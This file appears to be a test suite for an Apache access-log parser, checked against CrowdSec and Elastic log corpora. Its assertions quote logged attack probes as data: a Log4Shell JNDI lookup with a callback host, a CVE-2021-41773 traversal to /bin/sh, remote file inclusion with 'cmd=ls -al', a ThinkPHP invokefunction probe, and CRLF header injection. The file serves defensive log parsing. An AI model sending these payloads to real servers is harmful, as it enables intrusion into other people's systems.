    // "\n" as the request (kept as the two characters logged, never a raw newline), and a trailing unknown number after the bytes.
    assert.deepEqual(get(17, ['url', 'status', 'bytes', 'timestamp']), { url: '\\n', status: 400, bytes: 226, timestamp: Date.parse('2024-05-22T05:21:14Z') });
  });

  it('test-access-darwin: every expected field (common)', async function () {
    const dir = path.join(corpus(this, 'elastic-integrations-apache-tests'), 'access');
    const docs = readExpected(path.join(dir, 'test-access-darwin.log-expected.json'));
    for (const file of ['test-access-darwin.inputs-from-expected.log', 'test-access-darwin.log']) {
      const run = await runFile(path.join(dir, file), { format: 'common' });
      assertUnparsed(run, {});
      assert.equal(run.lines.length, docs.length);
      docs.forEach((doc, k) => {
        assert.equal(run.lines[k], doc.event.original);
        assertElastic(run.parsed.get(k + 1)!, doc);
      });
    }
  });

  // The vhost file mixes `%v %h` (no port) and `%v:%p %h:%{remote}p`: a log_format list reads both. (With
  // format auto the first line is read as vhost_common plus extra fields, without referer and user agent.)
  const VHOST_FORMATS = [
    '%v:%p %h:%{remote}p %l %u %t "%r" %>s %b "%{Referer}i" "%{User-Agent}i"',
    '%v %h %l %u %t "%r" %>s %b "%{Referer}i" "%{User-Agent}i"',
  ];

  it('test-access-vhost: every expected field, through a log_format list', async function () {
    const dir = path.join(corpus(this, 'elastic-integrations-apache-tests'), 'access');
    const docs = readExpected(path.join(dir, 'test-access-vhost.log-expected.json'));
    const run = await runFile(path.join(dir, 'test-access-vhost.inputs-from-expected.log'), { log_format: VHOST_FORMATS });
    assertUnparsed(run, {});
    assert.equal(run.lines.length, 1);
    assertElastic(run.parsed.get(1)!, docs[0]);
    // network.forwarded_ip / remote_ip_list name the client address here (no X-Forwarded-For in this format).
    assert.equal(run.parsed.get(1)!.client_ip, docs[0].network!.forwarded_ip);
  });

  it('test-access-vhost.log: both lines parse with the list (and with format auto)', async function () {
    const dir = path.join(corpus(this, 'elastic-integrations-apache-tests'), 'access');
    const file = path.join(dir, 'test-access-vhost.log');
    const run = await runFile(file, { log_format: VHOST_FORMATS });
    assertUnparsed(run, {});
    assert.deepEqual(pick(run.parsed.get(2)!, ['vhost', 'port', 'client_ip', 'client_port', 'url', 'status', 'bytes', 'user_agent']), {
      vhost: '192.168.33.2', port: 11111, client_ip: 'vhost1.domaine.fr', client_port: 22222, url: '/hello', status: 404, bytes: 499,
      user_agent: 'Mozilla/5.0 (Macintosh; Intel Mac OS X 10.12; rv:50.0) Gecko/20100101 Firefox/50.0',
    });
    const auto = await runFile(file, { format: 'auto' });
    assertUnparsed(auto, {});
    assert.deepEqual(pick(auto.parsed.get(1)!, ['vhost', 'client_ip', 'status', 'bytes', 'user_agent']), {
      vhost: 'vhost1.domaine.fr', client_ip: '192.168.33.2', status: 404, bytes: 499, user_agent: undefined,
    });
    assert.deepEqual(pick(auto.parsed.get(2)!, ['vhost', 'port', 'client_ip', 'user_agent']), {
      vhost: '192.168.33.2', port: 11111, client_ip: 'vhost1.domaine.fr:22222',
      user_agent: 'Mozilla/5.0 (Macintosh; Intel Mac OS X 10.12; rv:50.0) Gecko/20100101 Firefox/50.0',
    });
  });
});

// --------------------------------------------------------------------------------- CrowdSec ground truth

/** `results["s01-parse"]["crowdsecurity/apache2-logs"][N].Evt.Parsed["key"] == "value"` -> N -> {key: value}. */
function readParserAssert(file: string): Map<number, Record<string, string>> {
  const byIndex = new Map<number, Record<string, string>>();
  const re = /^results\["s01-parse"\]\["crowdsecurity\/apache2-logs"\]\[(\d+)\]\.Evt\.Parsed\["(\w+)"\] == ("(?:[^"\\]|\\.)*")$/;
  for (const line of readFileSync(file, 'utf8').split('\n')) {
    const m = re.exec(line);
    if (!m) continue;
    const n = Number(m[1]);
    if (!byIndex.has(n)) byIndex.set(n, {});
    byIndex.get(n)![m[2]] = JSON.parse(m[3]) as string; // Go's quoted strings read as JSON here
  }
  return byIndex;
}

/** The Apache access fields CrowdSec asserts, compared with ours. CrowdSec keeps '-' where we give null:
 * mapped, not a disagreement. A malformed request's url is its text as logged, escapes and all, as CrowdSec's
 * rawrequest. */
function assertCrowdsec(e: Access, truth: Record<string, string>): void {
  const where = truth.message;
  const dashNull = (v: string) => (v === '-' ? null : v);
  const mapped: Record<string, () => void> = {
    clientip: () => assert.equal(e.client_ip, truth.clientip, where),
    ident: () => assert.equal(e.ident, dashNull(truth.ident), where),
    auth: () => assert.equal(e.user, dashNull(truth.auth), where),
    timestamp: () => assert.equal(e.timestamp, clfMs(truth.timestamp), where),
    verb: () => assert.equal(e.method, truth.verb, where),
    request: () => assert.equal(e.url, truth.request, where),
    rawrequest: () => assert.equal(e.url, truth.rawrequest, where),
    httpversion: () => assert.equal(e.protocol, `HTTP/${truth.httpversion}`, where),
    response: () => assert.equal(e.status, Number(truth.response), where),
    bytes: () => assert.equal(e.bytes, Number(truth.bytes), where),
    referrer: () => assert.equal(e.referer, dashNull(truth.referrer), where),
    http_user_agent: () => assert.equal(e.user_agent, dashNull(truth.http_user_agent), where),
    target_fqdn: () => assert.equal(e.vhost, truth.target_fqdn, where),
    port: () => assert.equal(e.port, Number(truth.port), where),
    message: () => assert.equal(e.message, truth.message),
    program: () => undefined, // the syslog program name CrowdSec adds, not in the line
  };
  for (const key of Object.keys(truth)) {
    assert.ok(mapped[key], `no mapping for CrowdSec field ${key}`);
    mapped[key]();
  }
  if (truth.verb === undefined) assert.equal(e.method, null, where);
  if (truth.httpversion === undefined) assert.equal(e.protocol, null, where);
}

describe('apache_access against CrowdSec ground truth (crowdsec-hub-tests)', function () {
  this.timeout(30000);

  it('apache2-logs: access lines match parser.assert; the two error-log lines are not parsed', async function () {
    const dir = path.join(corpus(this, 'crowdsec-hub-tests'), 'apache2-logs');
    // The file mixes combined, common (through combined: a common line is a combined line that ends
    // early), `%v %h` without port, and vhost_combined; plus two error-log lines.
    const run = await runFile(path.join(dir, 'apache2-logs.log'), {
      log_format: ['vhost_combined', '%v %h %l %u %t "%r" %>s %O "%{Referer}i" "%{User-Agent}i"', 'combined'],
    });
    assert.equal(run.lines.length, 9);
    assertUnparsed(run, { 8: 'format_mismatch', 9: 'format_mismatch' });
    const truth = readParserAssert(path.join(dir, 'parser.assert'));
    assert.equal(truth.size, 9);
    let compared = 0;
    for (const [index, fields] of truth) {
      if (fields.loglevel !== undefined) { // an error-log line (CrowdSec's apache2 parser reads both kinds)
        assert.ok(run.unparsed.has(index + 1));
        continue;
      }
      assertCrowdsec(run.parsed.get(index + 1)!, fields);
      compared++;
    }
    assert.equal(compared, 7);
  });

  it('apache2-malformed: TLS handshakes in the request line match parser.assert', async function () {
    const dir = path.join(corpus(this, 'crowdsec-hub-tests'), 'apache2-malformed');
    const run = await runFile(path.join(dir, 'apache2-logs.log'), { format: 'combined' });
    assert.equal(run.lines.length, 11);
    assertUnparsed(run, {});
    const truth = readParserAssert(path.join(dir, 'parser.assert'));
    assert.equal(truth.size, 11);
    for (const [index, fields] of truth) assertCrowdsec(run.parsed.get(index + 1)!, fields);
    assert.deepEqual(pick(run.parsed.get(1)!, ['method', 'url', 'path', 'protocol', 'timestamp']), {
      method: null, url: '\\x16\\x03\\x01\\x01 \\x02', path: null, protocol: null, timestamp: Date.parse('2023-10-16T18:57:49Z'),
    });
  });

  const others: Array<[string, ParserOptions, number, Record<number, string>, [string, string]]> = [
    ['apache-cve-2021-41773', { format: 'auto' }, 3, { 1: 'format_mismatch' }, ['2021-10-11T00:00:00Z', '2021-10-12T00:00:00Z']],
    ['apache-http-probing', { format: 'common' }, 77, {}, ['2021-09-29T00:00:00Z', '2021-09-30T00:00:00Z']],
    ['apache2-http-sensitive-files', { format: 'common' }, 13, {}, ['2021-09-30T00:00:00Z', '2021-10-01T00:00:00Z']],
    ['apache_log4j2_cve-2021-44228', { format: 'combined' }, 5, { 4: 'empty_line', 5: 'empty_line' }, ['2021-12-10T00:00:00Z', '2021-12-13T00:00:00Z']],
  ];
  for (const [name, options, count, unparsed, range] of others) {
    it(`${name}: ${count} lines, every access line parsed (${options.format})`, async function () {
      const dir = path.join(corpus(this, 'crowdsec-hub-tests'), name);
      const file = readdirSync(dir).find((f) => f.endsWith('.log'))!;
      const run = await runFile(path.join(dir, file), options);
      assert.equal(run.lines.length, count);
      assertUnparsed(run, unparsed);
      for (const e of run.parsed.values()) assertInvariants(e, range);
      assertOracle(run);
    });
  }

  it('spot checks: a request without protocol holding a space (malformed: Apache answered 400), an escaped quote, ${jndi:...} headers, path traversal', async function () {
    const base = corpus(this, 'crowdsec-hub-tests');
    const probing = await runFile(path.join(base, 'apache-http-probing/apache-http-probing.log'), { format: 'common' });
    for (const n of [15, 16]) {
      assert.deepEqual(pick(probing.parsed.get(n)!, ['method', 'path', 'query', 'protocol', 'status', 'bytes']), { method: null, path: null, query: null, protocol: null, status: 400, bytes: 226 });
      assert.match(probing.parsed.get(n)!.url as string, /^GET \/studip-1\.3\.0-2\/studip-\w+\/\w+\.\w+\?cmd=ls -al&.*rfiinc\.txt\?\?$/);
    }
    assert.equal(probing.parsed.get(15)!.url, 'GET /studip-1.3.0-2/studip-htdocs/archiv_assi.php?cmd=ls -al&ABSOLUTE_PATH_STUDIP=http://cirt.net/rfiinc.txt??');
    // `config[\\\"sipssys\\\"]` in the log: an escaped backslash, then an escaped quote.
    assert.equal(probing.parsed.get(45)!.url, '/sys/code/box.inc.php?config[\\"sipssys\\"]=http://cirt.net/rfiinc.txt?');
    const log4j = await runFile(path.join(base, 'apache_log4j2_cve-2021-44228/apache_log4j2_cve-2021-44228.log'), { format: 'combined' });
    assert.equal(log4j.parsed.get(2)!.user_agent, '${jndi:${lower:l}${lower:d}a${lower:p}://world80.log4j.bin${upper:a}ryedge.io:80/callback}');
    assert.equal(log4j.parsed.get(3)!.referer, '${jndi:${lower:l}${lower:d}a${lower:p}://world80.log4j.bin${upper:a}ryedge.io:80/callback}');
    const cve = await runFile(path.join(base, 'apache-cve-2021-41773/apache-cve-2021-41773.log'), { format: 'auto' });
    assert.deepEqual(pick(cve.parsed.get(2)!, ['client_ip', 'method', 'path', 'status', 'bytes', 'referer']), {
      client_ip: '172.17.0.1', method: 'POST', path: '/cgi-bin/.%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/bin/sh', status: 200, bytes: 7, referer: undefined, // a common line: no referer field at all
    });
  });
});

// --------------------------------------------------------------------------------- a real pipeline

/** The files through a real pipeline: test_file_lines -> apache_access -> test_record (parsed, rejects). */
async function runPipeline(files: string[], filterOptions: string): Promise<{ metrics: MetricsHub; parsed: Event[]; unparsed: Event[]; probe: Probes }> {
  const { pipeline, metrics, probe } = await startPipeline(`
inputs:
  corpus: { type: test_file_lines, batch: 500, files: ${JSON.stringify(files)} }
filters:
  access: { type: apache_access, inputs: [corpus], timezone: UTC, ${filterOptions} }
outputs:
  parsed: { type: test_record, inputs: [access] }
  rejects: { type: test_record, inputs: [access._unparsed] }
`);
  await pipeline.done();
  return { metrics, parsed: probe('parsed').written, unparsed: probe('rejects').written, probe };
}

describe('apache_access in a real in-process pipeline, _unparsed wired to an output', function () {
  this.timeout(60000);

  it('the whole crowdsec-hub-tests corpus with format auto: parsed + unparsed = lines in, by the parser metrics', async function () {
    const base = corpus(this, 'crowdsec-hub-tests');
    const files = readdirSync(base, { withFileTypes: true }).filter((d) => d.isDirectory()).sort((a, b) => a.name.localeCompare(b.name))
      .flatMap((d) => readdirSync(path.join(base, d.name)).filter((f) => f.endsWith('.log')).map((f) => path.join(base, d.name, f)));
    const linesIn = files.reduce((n, f) => n + readLines(f).length, 0);
    assert.equal(linesIn, 118);
    const { metrics, parsed, unparsed, probe } = await runPipeline(files, 'format: auto');
    const s = metrics.snapshot().access;
    assert.equal(s.received_events, linesIn);
    assert.equal(s.custom.visor_parser_parsed_lines_total, 113);
    assert.equal(s.custom.visor_parser_unparsed_lines_total, 5);
    assert.equal(s.custom.visor_parser_parsed_lines_total + s.custom.visor_parser_unparsed_lines_total, linesIn);
    assert.equal(s.custom.visor_parser_unparsed_format_mismatch_total, 3); // three error-log lines
    assert.equal(s.custom.visor_parser_unparsed_empty_line_total, 2);
    assert.deepEqual(s.sent_events_by_output, { _default: 113, _unparsed: 5 });
    assert.equal(parsed.length, 113);
    assert.equal(unparsed.length, 5);
    assert.deepEqual(unparsed.map((e) => e.parse_error).sort(), ['empty_line', 'empty_line', 'format_mismatch', 'format_mismatch', 'format_mismatch']);
    assert.ok(unparsed.filter((e) => e.parse_error === 'format_mismatch').every((e) => (e.message as string).startsWith('[')));
    assert.ok(probe('corpus').acks.length > 0 && probe('corpus').acks.every((a) => a.result.status === 'delivered'));
  });

  it('elastic-examples apache_logs (10,000 lines) with format combined: all parsed, nothing unparsed', async function () {
    const dir = corpus(this, 'elastic-examples-apache_logs');
    const { metrics, parsed, unparsed } = await runPipeline([path.join(dir, 'apache_logs')], 'format: combined');
    const s = metrics.snapshot().access;
    assert.equal(s.received_events, 10000);
    assert.equal(s.custom.visor_parser_parsed_lines_total, 10000);
    assert.equal(s.custom.visor_parser_unparsed_lines_total ?? 0, 0);
    assert.equal(parsed.length, 10000);
    assert.equal(unparsed.length, 0);
    assert.equal(parsed[8898].user_agent, 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html');
  });
});

// ---------------------------------------------------------------------------------------- unit cases

/** One line through a parser built like the plugin builds it; the fields, or the failure reason. */
function parseOne(line: string, options: ParserOptions = {}): Access | string {
  const parser = buildAccessParser({ format: options.format ?? 'combined', log_format: options.log_format, timezone: options.timezone ?? 'UTC' });
  const event: Access = { n: 0, message: line };
  const failure = parser.parse(line, event);
  return failure ?? event;
}

function fields(line: string, options: ParserOptions = {}): Access {
  const r = parseOne(line, options);
  assert.ok(typeof r !== 'string', `${JSON.stringify(line)} did not parse: ${r}`);
  return r;
}

const T = '[10/Oct/2000:13:55:36 -0700]';
const T_MS = Date.parse('2000-10-10T20:55:36Z');

describe('apache_access: real-world cases', () => {
  it('%h: IPv4, IPv6 (compressed, full, loopback) and host names', () => {
    for (const host of ['203.0.113.9', '::1', '2001:db8::8a2e:370:7334', 'fe80:0000:0000:0000:0202:b3ff:fe1e:8329', 'in24.inetnebr.com', 'monitoring-server']) {
      assert.equal(fields(`${host} - - ${T} "GET / HTTP/1.1" 200 5`).client_ip, host);
    }
  });

  it('"-" request lines (408s): method, url, path, query and protocol are null; bytes "-" is null', () => {
    assert.deepEqual(pick(fields(`::1 - - ${T} "-" 408 -`), ['method', 'url', 'path', 'query', 'protocol', 'status', 'bytes', 'referer', 'user_agent']), {
      method: null, url: null, path: null, query: null, protocol: null, status: 408, bytes: null, referer: null, user_agent: null,
    });
    assert.equal(fields(`::1 - - ${T} "-" 408 0 "-" "-"`).bytes, 0);
  });

  it('HTTP/0.9 requests without protocol, with or without a query', () => {
    assert.deepEqual(pick(fields(`h - - ${T} "GET /ksc.html" 200 7280`), ['method', 'url', 'path', 'query', 'protocol']), {
      method: 'GET', url: '/ksc.html', path: '/ksc.html', query: null, protocol: null,
    });
    // A space inside the target is no request line (Apache answers 400): the text goes to url alone.
    assert.deepEqual(pick(fields(`h - - ${T} "GET /a?b=c d" 400 1`), ['method', 'url', 'path', 'query', 'protocol']), { method: null, url: 'GET /a?b=c d', path: null, query: null, protocol: null });
  });

  it('junk and TLS handshakes in %r: still parsed, method/path/protocol null, url keeps the text as logged', () => {
    for (const [raw, url] of [
      ['\\x16\\x03\\x01', '\\x16\\x03\\x01'],
      ['\\x16\\x03\\x01\\x01 \\x02', '\\x16\\x03\\x01\\x01 \\x02'],
      ['<SCRIPT>NXSSTEST</SCRIPT> / HTTP/1.1', '<SCRIPT>NXSSTEST</SCRIPT> / HTTP/1.1'],
      ['- - HTTP/1.0', '- - HTTP/1.0'],
      ['1', '1'],
      ['', ''],
    ]) {
      assert.deepEqual(pick(fields(`1.2.3.4 - - ${T} "${raw}" 400 226 "-" "-"`), ['method', 'url', 'path', 'query', 'protocol', 'status']), {
        method: null, url, path: null, query: null, protocol: null, status: 400,
      }, raw);
    }
  });

  it('request lines that are not METHOD target [PROTOCOL] (scanner junk): url only, the text as logged; a path always starts with /', () => {
    const req = (raw: string) => pick(fields(`1.2.3.4 - - ${T} "${raw}" 400 226 "-" "-"`), ['method', 'url', 'path', 'query', 'protocol']);
    const junk = (raw: string) => ({ method: null, url: raw, path: null, query: null, protocol: null });
    // A VNC client on port 80: `RFB 003.003\n`. RFB is a token, but 003.003 is no target, and the \n stays two characters.
    assert.deepEqual(req('RFB 003.003\\n'), junk('RFB 003.003\\n'));
    // ThinkPHP probes written in a language where \t is a tab and \a a bell: the escaped tab/bell make it junk, not a request for /.
    assert.deepEqual(req('GET /?s=/index/\\think\\x07pp/invokefunction&function=call_user_func_array HTTP/1.1'),
      junk('GET /?s=/index/\\think\\x07pp/invokefunction&function=call_user_func_array HTTP/1.1'));
    assert.deepEqual(req('GET /index.php?s=/index/\\think HTTP/1.1'), junk('GET /index.php?s=/index/\\think HTTP/1.1'));
    assert.deepEqual(req('GET /\\r\\nSet-Cookie:x HTTP/1.1'), junk('GET /\\r\\nSet-Cookie:x HTTP/1.1')); // header injection
    // The same probe with real backslashes (Apache writes `\\`, nginx-style logs `\x5C`) is a request for / with a query.
    for (const raw of ['GET /?s=/index/\\\\think\\\\app/invokefunction HTTP/1.1', 'GET /?s=/index/\\x5Cthink\\x5Capp/invokefunction HTTP/1.1']) {
      assert.deepEqual(req(raw), { method: 'GET', url: '/?s=/index/\\think\\app/invokefunction', path: '/', query: 's=/index/\\think\\app/invokefunction', protocol: 'HTTP/1.1' }, raw);
    }
    // Control characters that are not C0: C1 (NEL, \xc2\x85) and U+2028 (\xe2\x80\xa8) in the target make it junk too.
    assert.deepEqual(req('GET /a\\xc2\\x85b HTTP/1.1'), junk('GET /a\\xc2\\x85b HTTP/1.1'));
    assert.deepEqual(req('GET /a\\xe2\\x80\\xa8b HTTP/1.1'), junk('GET /a\\xe2\\x80\\xa8b HTTP/1.1'));
    // Not a target: relative, or a space in it; junk after the protocol; a method that is no upper-case token.
    for (const raw of ['GET index.html HTTP/1.1', 'GET /a b HTTP/1.1', 'GET /a HTTP/1.1 extra', 'GET /a HTTP/', 'get /a HTTP/1.1', 'G\\x00ET / HTTP/1.1', 'GET', 'GET  ', 'GET * HTTP/1.1', '* / HTTP/1.1']) {
      assert.deepEqual(req(raw), junk(raw), raw);
    }
    // `*` (OPTIONS only): the server itself, no path. CONNECT: an authority, no path.
    assert.deepEqual(req('OPTIONS * HTTP/1.0'), { method: 'OPTIONS', url: '*', path: null, query: null, protocol: 'HTTP/1.0' });
    assert.deepEqual(req('CONNECT example.com:443 HTTP/1.1'), { method: 'CONNECT', url: 'example.com:443', path: null, query: null, protocol: 'HTTP/1.1' });
    // Absolute form (a proxy request): the path part of the URL, `/` when it has none.
    assert.deepEqual(req('GET http://h.example:8080/a/b?c=d HTTP/1.1'), { method: 'GET', url: 'http://h.example:8080/a/b?c=d', path: '/a/b', query: 'c=d', protocol: 'HTTP/1.1' });
    assert.deepEqual(req('GET http://h.example?c=d HTTP/1.1'), { method: 'GET', url: 'http://h.example?c=d', path: '/', query: 'c=d', protocol: 'HTTP/1.1' });
    assert.deepEqual(req('GET https://h.example HTTP/1.0'), { method: 'GET', url: 'https://h.example', path: '/', query: null, protocol: 'HTTP/1.0' });
    // Runs of spaces between the parts (Apache 2.2 accepted them: RaspIM's `...=  HTTP/1.1` lines got 404s), and 1990s versions.
    assert.deepEqual(req('POST /R/AzM=  HTTP/1.1'), { method: 'POST', url: '/R/AzM=', path: '/R/AzM=', query: null, protocol: 'HTTP/1.1' });
    assert.deepEqual(req('GET / HTTP/V1.0'), { method: 'GET', url: '/', path: '/', query: null, protocol: 'HTTP/V1.0' });
    assert.deepEqual(req('M-SEARCH * HTTP/1.1'), junk('M-SEARCH * HTTP/1.1'));
  });

  it('junk requests do not inflate the count of /: only well-formed requests for / (or /?query) have path /', () => {
    const lines = [
      'GET / HTTP/1.1', 'GET /?utm=1 HTTP/1.1', 'HEAD / HTTP/1.0', 'GET http://h.example/ HTTP/1.1', // 4 requests for /
      'GET /?s=/index/\\think\\x07pp HTTP/1.1', 'GET / \\n', 'GET /\\n HTTP/1.1', '\\x16\\x03\\x01', 'RFB 003.003\\n', 'GET / HTTP/1.1\\r\\n', '- - HTTP/1.0', 'GET  /  junk',
    ].map((r) => `1.2.3.4 - - ${T} "${r}" 400 226 "-" "-"`);
    const events = lines.map((l) => fields(l));
    assert.equal(events.filter((e) => e.path === '/').length, 4);
    assert.deepEqual(events.slice(4).map((e) => e.method), Array(8).fill(null));
  });

  it('control characters stay escaped in every field (user agent, referer, user, headers); the rest is decoded', () => {
    const e = fields(`h - \\x07bell ${T} "GET /caf\\xc3\\xa9 HTTP/1.1" 200 1 "http://r/\\r\\nSet-Cookie: a=1" "curl/8\\n\\tX \\"q\\" \\xc2\\x85 \\xe2\\x80\\xa8 \\x7f \\xc3\\xa9"`);
    assert.deepEqual(pick(e, ['user', 'path', 'referer', 'user_agent']), {
      user: '\\x07bell', path: '/café', referer: 'http://r/\\r\\nSet-Cookie: a=1', user_agent: 'curl/8\\n\\tX "q" \\xc2\\x85 \\xe2\\x80\\xa8 \\x7f é',
    });
    // An escaped backslash before n is a backslash and an n, written back the same way.
    assert.equal(fields(`h - - ${T} "GET / HTTP/1.1" 200 1 "-" "a\\\\nb"`).user_agent, 'a\\nb');
    const h = fields(`h "x\\ty" 200`, { log_format: '%h "%{X-Test}i" %>s' });
    assert.equal(h.http_x_test, 'x\\ty');
    // A log not written by Apache may hold a raw control character: a junk url gets it escaped too. (A
    // well-formed request is not searched for raw ones, to keep the usual line fast: Apache never writes them.)
    assert.equal(fields(`h - - ${T} "\\x16\tX\x01" 400 1`).url, '\\x16\\tX\\x01');
  });

  it('%m, %H and %U logged alone: a method token, an HTTP version and a path, else null', () => {
    const parse = (line: string) => pick(fields(line, { log_format: '%h %m %U %H %>s' }), ['method', 'path', 'protocol', 'status']);
    assert.deepEqual(parse('h GET /a/b HTTP/1.1 200'), { method: 'GET', path: '/a/b', protocol: 'HTTP/1.1', status: 200 });
    assert.deepEqual(parse('h OPTIONS * HTTP/1.0 200'), { method: 'OPTIONS', path: null, protocol: 'HTTP/1.0', status: 200 });
    assert.deepEqual(parse('h \\x16\\x03\\x01 - HTTP/0.9 400'), { method: null, path: null, protocol: 'HTTP/0.9', status: 400 });
    assert.deepEqual(parse('h RFB\\n 003.003\\n \\n 400'), { method: null, path: null, protocol: null, status: 400 });
    assert.deepEqual(pick(fields('h *?x 200', { log_format: '%h %U%q %>s' }), ['path', 'query']), { path: null, query: 'x' });
  });

  it('escapes: \\" \\\\ \\xhh decoded, UTF-8 sequences (\\xc3\\xa9 -> é), a value ending in a backslash', () => {
    const e = fields(`h - - ${T} "GET /caf\\xc3\\xa9?q=\\"x\\" HTTP/1.1" 200 1 "http://r/\\\\" "UA \\"quoted\\" \\\\ end\\\\"`);
    assert.deepEqual(pick(e, ['url', 'path', 'query', 'referer', 'user_agent']), {
      url: '/café?q="x"', path: '/café', query: 'q="x"', referer: 'http://r/\\', user_agent: 'UA "quoted" \\ end\\',
    });
    // Invalid UTF-8 bytes become U+FFFD (in a well-formed request and in other fields); the raw line stays as it was.
    const bad = fields(`h - - ${T} "GET /\\xff?\\xec HTTP/1.1" 200 1 "-" "UA \\xff"`);
    assert.deepEqual(pick(bad, ['url', 'path', 'query', 'user_agent']), { url: '/\ufffd?\ufffd', path: '/\ufffd', query: '\ufffd', user_agent: 'UA \ufffd' });
    // Junk is not decoded: its url is the text as logged.
    const junk = `h - - ${T} "\\xecegD\\"\\" x" 400 301 "-" "-"`;
    const j = fields(junk);
    assert.equal(j.url, '\\xecegD\\"\\" x');
    assert.equal(j.message, junk);
  });

  it('any time-zone offset: +1100, -0930, +0545, +0000, -0000', () => {
    for (const [zone, utc] of [['+1100', '2023-10-16T18:57:49Z'], ['-0930', '2023-10-17T15:27:49Z'], ['+0545', '2023-10-17T00:12:49Z'], ['+0000', '2023-10-17T05:57:49Z'], ['-0000', '2023-10-17T05:57:49Z']]) {
      assert.equal(fields(`h - - [17/Oct/2023:05:57:49 ${zone}] "GET / HTTP/1.1" 200 1`).timestamp, Date.parse(utc), zone);
    }
    assert.equal(parseOne(`h - - [17/Oct/2023:25:57:49 +0000] "GET / HTTP/1.1" 200 1`), 'bad_timestamp');
    assert.equal(parseOne(`h - - [17/Foo/2023:05:57:49 +0000] "GET / HTTP/1.1" 200 1`), 'bad_timestamp');
  });

  it('CRLF line endings: the \\r belongs to no field, whichever field ends the line', () => {
    assert.equal(fields(`h - - ${T} "GET / HTTP/1.1" 200 5 "-" "curl/8"\r`).user_agent, 'curl/8');
    assert.equal(fields(`h - - ${T} "GET / HTTP/1.1" 200 5\r`, { format: 'common' }).bytes, 5);
    assert.equal(fields(`h - - ${T} "GET / HTTP/1.1" 200 -\r`, { format: 'combined' }).bytes, null);
    assert.equal(fields(`h - - ${T} "GET / HTTP/1.1" 200 5 "-" "curl/8"\r`, { format: 'auto' }).user_agent, 'curl/8');
  });

  it('vhost_combined with a bare IPv6 vhost and port, and a host name vhost', () => {
    for (const [vhost, port] of [['fe80::1', 80], ['::1', 80], ['2001:db8:85a3:0:0:8a2e:370:7334', 8443], ['www.example.com', 443], ['127.0.1.1', 80]] as const) {
      const e = fields(`${vhost}:${port} 127.0.0.1 - - ${T} "GET / HTTP/1.1" 200 5 "-" "-"`, { format: 'vhost_combined' });
      assert.deepEqual(pick(e, ['vhost', 'port', 'client_ip', 'bytes', 'timestamp']), { vhost, port, client_ip: '127.0.0.1', bytes: 5, timestamp: T_MS });
    }
    assert.equal(fields(`fe80::1:80 127.0.0.1 - - ${T} "GET / HTTP/1.1" 200 5 "-" "-"`, { format: 'auto' }).vhost, 'fe80::1');
  });

  it('extra trailing fields are ignored; a combined format reads common lines (missing fields null)', () => {
    const e = fields(`h - - ${T} "GET / HTTP/1.1" 200 5 "r" "ua" "10.0.0.1" 1234 extra`);
    assert.deepEqual(pick(e, ['status', 'bytes', 'referer', 'user_agent']), { status: 200, bytes: 5, referer: 'r', user_agent: 'ua' });
    assert.deepEqual(pick(fields(`h - - ${T} "GET / HTTP/1.1" 200 5`), ['bytes', 'referer', 'user_agent']), { bytes: 5, referer: null, user_agent: null });
    assert.deepEqual(pick(fields(`h - - ${T} "GET / HTTP/1.1" 200 5 "r"`), ['referer', 'user_agent']), { referer: 'r', user_agent: null });
  });

  it('a line cut short inside its last quoted field keeps what is there', () => {
    assert.equal(fields(`h - - ${T} "GET / HTTP/1.1" 200 5 "-" "Mozilla/5.0 (compat`).user_agent, 'Mozilla/5.0 (compat');
    assert.equal(parseOne(`h - - ${T} "GET / HTTP/1.1`), 'format_mismatch');
  });

  it('format auto: the format that explains the whole line wins, whatever the line before', () => {
    const lines = [
      `h - - ${T} "GET / HTTP/1.1" 200 5`, // common
      `h - - ${T} "GET / HTTP/1.1" 200 5 "r" "ua" "-"`, // combined + an extra quoted field
      `v:80 h - - ${T} "GET / HTTP/1.1" 200 5 "r" "ua"`, // vhost_combined
      `h - - ${T} "GET / HTTP/1.1" 200 5 "r" "ua" 10 20`, // combinedio
      `v h - - ${T} "GET / HTTP/1.1" 200 5`, // vhost_common
      `127.0.0.1:80 - - ${T} "GET / HTTP/1.1" 400 5 "-" "-"`, // combined with host:port as %h
    ];
    const expected = [
      { vhost: undefined, client_ip: 'h', referer: undefined, user_agent: undefined, bytes_received: undefined },
      { vhost: undefined, client_ip: 'h', referer: 'r', user_agent: 'ua', bytes_received: undefined },
      { vhost: 'v', client_ip: 'h', referer: 'r', user_agent: 'ua', bytes_received: undefined },
      { vhost: undefined, client_ip: 'h', referer: 'r', user_agent: 'ua', bytes_received: 10 },
      { vhost: 'v', client_ip: 'h', referer: undefined, user_agent: undefined, bytes_received: undefined },
      { vhost: undefined, client_ip: '127.0.0.1:80', referer: null, user_agent: null, bytes_received: undefined },
    ];
    const parser = buildAccessParser({ format: 'auto', timezone: 'UTC' });
    // Every order of lines gives the same fields: no memory of the previous line.
    for (const order of [[0, 1, 2, 3, 4, 5], [5, 4, 3, 2, 1, 0], [3, 1, 3, 0, 2, 5, 4, 1]]) {
      for (const k of order) {
        const e: Access = { n: k, message: lines[k] };
        assert.equal(parser.parse(lines[k], e), undefined, lines[k]);
        assert.deepEqual(pick(e, ['vhost', 'client_ip', 'referer', 'user_agent', 'bytes_received']), expected[k], lines[k]);
      }
    }
  });

  it('a log_format list: the first format that explains the whole line wins', () => {
    const formats = ['%v:%p %h:%{remote}p %l %u %t "%r" %>s %b', '%v %h %l %u %t "%r" %>s %b'];
    const line = `192.168.33.2:11111 vhost1:22222 - - ${T} "GET / HTTP/1.1" 200 5`;
    assert.deepEqual(pick(fields(line, { log_format: formats }), ['vhost', 'port', 'client_ip', 'client_port']), { vhost: '192.168.33.2', port: 11111, client_ip: 'vhost1', client_port: 22222 });
    assert.deepEqual(pick(fields(line, { log_format: [...formats].reverse() }), ['vhost', 'port', 'client_ip']), { vhost: '192.168.33.2:11111', port: undefined, client_ip: 'vhost1:22222' });
  });
});

describe('apache_access: custom LogFormat strings', () => {
  it('as written in httpd.conf, with \\" escapes: %{X-Forwarded-For}i, %D, %>s', () => {
    const format = '%h %l %u %t \\"%r\\" %>s %b \\"%{Referer}i\\" \\"%{User-Agent}i\\" \\"%{X-Forwarded-For}i\\" %D';
    const e = fields(`10.0.0.5 - bob ${T} "POST /api?x=1 HTTP/2.0" 201 17 "-" "curl/8" "203.0.113.7, 10.0.0.1" 1234`, { log_format: format });
